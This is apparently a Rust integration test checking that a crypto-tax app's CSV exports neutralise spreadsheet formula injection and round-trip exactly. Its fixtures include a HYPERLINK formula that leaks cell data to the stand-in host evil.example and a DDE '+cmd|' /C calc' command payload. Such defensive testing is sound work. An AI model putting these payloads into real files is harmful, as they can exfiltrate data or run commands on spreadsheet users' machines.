//! No CSV the product writes lets a spreadsheet run a cell: notes, account
//! and token names that start like a formula come out with a leading quote
//! (OWASP's rule) in the generic export, the capital-gains, income,
//! holdings and TurboTax files and the audit log, while amounts stay plain
//! numbers; and the generic export still imports back exactly.

use reqwest::StatusCode;
use serde_json::{Value, json};

use crate::imports::import;
use crate::support::{Server, Session};

const LEAK: &str = r#"=HYPERLINK("http://evil.example/?leak="&A2,"click")"#;
const CMD: &str = "+cmd|' /C calc'!A0";
const SUM: &str = "@SUM(A1:A9)";
const MINUS: &str = "-2+3";
/// Written as it comes out of a spreadsheet that was told to keep a cell as
/// text: the generic importer reads it as the text without its quote.
const QUOTED: &str = "'=already quoted";
const UNQUOTED: &str = "=already quoted";

fn history() -> String {
    let cell = |s: &str| format!("\"{}\"", s.replace('"', "\"\""));
    format!(
        "timestamp,type,account,btc,fiat_value,fiat_currency,note\n\
         2023-01-10T12:00:00Z,buy,{leak},1,20000.00,USD,{cmd}\n\
         2023-03-01T12:00:00Z,income,{leak},0.01,250.00,USD,{sum}\n\
         2023-06-10T12:00:00Z,sell,{leak},0.5,15000.00,USD,{minus}\n\
         2023-07-01T12:00:00Z,buy,{leak},0.1,3000.00,USD,{quoted}\n",
        leak = cell(LEAK),
        cmd = cell(CMD),
        sum = cell(SUM),
        minus = cell(MINUS),
        quoted = cell(QUOTED),
    )
}

/// The records of a CSV body, header first.
fn records(body: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(body.as_bytes())
        .records()
        .map(|r| r.expect("csv").iter().map(str::to_string).collect())
        .collect()
}

/// The cells of column `name` below the header.
fn column(body: &str, name: &str) -> Vec<String> {
    let rows = records(body);
    let at = rows[0]
        .iter()
        .position(|h| h == name)
        .unwrap_or_else(|| panic!("no {name} in {:?}", rows[0]));
    rows[1..].iter().map(|r| r[at].clone()).collect()
}

async fn download(owner: &Session, path: &str) -> String {
    let got = owner.get(path).await;
    assert_eq!(got.status(), StatusCode::OK, "{path}");
    got.text().await.expect("csv")
}

fn quoted(s: &str) -> String {
    format!("'{s}")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn formula_cells_are_neutralised_in_every_csv_and_amounts_stay_numbers() {
    let server = Server::start();
    let owner = server.owner().await;
    owner.import_csv(&history()).await;
    let token = owner
        .post(
            "/api/v1/workspaces/1/tokens",
            json!({"name": SUM, "role": "viewer"}),
        )
        .await;
    assert_eq!(token.status(), StatusCode::CREATED);

    let ledger = download(&owner, "/api/v1/workspaces/1/transactions.csv").await;
    assert_eq!(column(&ledger, "account"), vec![quoted(LEAK); 4]);
    assert_eq!(
        column(&ledger, "note"),
        [quoted(CMD), quoted(SUM), quoted(MINUS), quoted(UNQUOTED)]
    );
    assert_eq!(
        column(&ledger, "btc"),
        ["1.00000000", "0.01000000", "0.50000000", "0.10000000"]
    );
    assert_eq!(
        column(&ledger, "fiat_value"),
        ["20000.00", "250.00", "15000.00", "3000.00"]
    );

    let us = "jurisdiction=us&method=fifo&basis=universal";
    let gains = download(
        &owner,
        &format!("/api/v1/workspaces/1/reports/csv/capital-gains?{us}"),
    )
    .await;
    assert_eq!(column(&gains, "account"), [quoted(LEAK)]);
    assert_eq!(column(&gains, "proceeds"), ["15000.00"]);
    assert_eq!(column(&gains, "cost_basis"), ["10000.00"]);
    let income = download(
        &owner,
        &format!("/api/v1/workspaces/1/reports/csv/income?{us}"),
    )
    .await;
    assert_eq!(column(&income, "account"), [quoted(LEAK)]);
    assert_eq!(column(&income, "note"), [quoted(SUM)]);
    assert_eq!(column(&income, "value"), ["250.00"]);
    let holdings = download(
        &owner,
        &format!("/api/v1/workspaces/1/reports/csv/holdings?{us}&date=2023-12-31"),
    )
    .await;
    assert!(
        column(&holdings, "account")
            .iter()
            .all(|a| *a == quoted(LEAK)),
        "{holdings}"
    );
    let turbotax = download(
        &owner,
        &format!("/api/v1/workspaces/1/reports/csv/capital-gains?{us}&layout=turbotax"),
    )
    .await;
    assert_eq!(
        records(&turbotax)[1],
        ["BTC", "01/10/2023", "10000.00", "06/10/2023", "15000.00"]
    );
    let summary = download(
        &owner,
        &format!("/api/v1/workspaces/1/reports/summary.csv?{us}"),
    )
    .await;
    assert_eq!(column(&summary, "gain"), ["5000.00"]);

    let audit = download(&owner, "/api/v1/workspaces/1/audit.csv").await;
    let targets = column(&audit, "target");
    assert!(targets.contains(&quoted(SUM)), "{audit}");
    assert!(
        !targets.iter().any(|t| t.starts_with(['=', '+', '-', '@'])),
        "{audit}"
    );

    // The export imports back to the very same notes and names.
    let second = Server::start();
    let fresh = second.owner().await;
    let back = import(
        &fresh,
        1,
        "file_name=export.csv",
        ledger.clone().into_bytes(),
    )
    .await;
    assert_eq!(back.status(), StatusCode::OK);
    let rows: Value = fresh
        .get("/api/v1/workspaces/1/transactions")
        .await
        .json()
        .await
        .expect("rows");
    let rows = rows["rows"].as_array().expect("rows");
    assert_eq!(rows.len(), 4);
    assert!(
        rows.iter().all(|r| r["row"]["account"] == json!(LEAK)),
        "{rows:?}"
    );
    let income: Value = fresh
        .get(&format!("/api/v1/workspaces/1/reports/detail/income?{us}"))
        .await
        .json()
        .await
        .expect("income");
    assert_eq!(income["lines"][0]["note"], json!(SUM), "{income}");
    // Byte for byte: had the import kept the quote, the export would add another.
    let again = download(&fresh, "/api/v1/workspaces/1/transactions.csv").await;
    assert_eq!(again, ledger, "the same export, byte for byte");
}
